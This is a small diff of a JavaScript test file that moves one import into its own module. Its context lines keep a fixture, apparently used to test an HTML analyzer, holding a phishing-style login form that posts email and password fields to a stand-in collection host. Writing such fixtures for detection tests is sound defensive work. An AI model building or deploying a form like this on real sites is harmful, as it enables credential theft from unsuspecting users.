@@ -1,6 +1,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { analyzeHtml, readStringLiteral } from './index.js';
+import { analyzeHtml } from './index.js';
+import { readStringLiteral } from './literal.js';
 
 const LIMITS = { maxPayloadBytes: 1 << 20 };
 const LOGIN = '<!DOCTYPE html><html><body><form action="https://collect.example.net/p.php" method="post"><input name="email"><input type="password" name="pw"></form></body></html>';
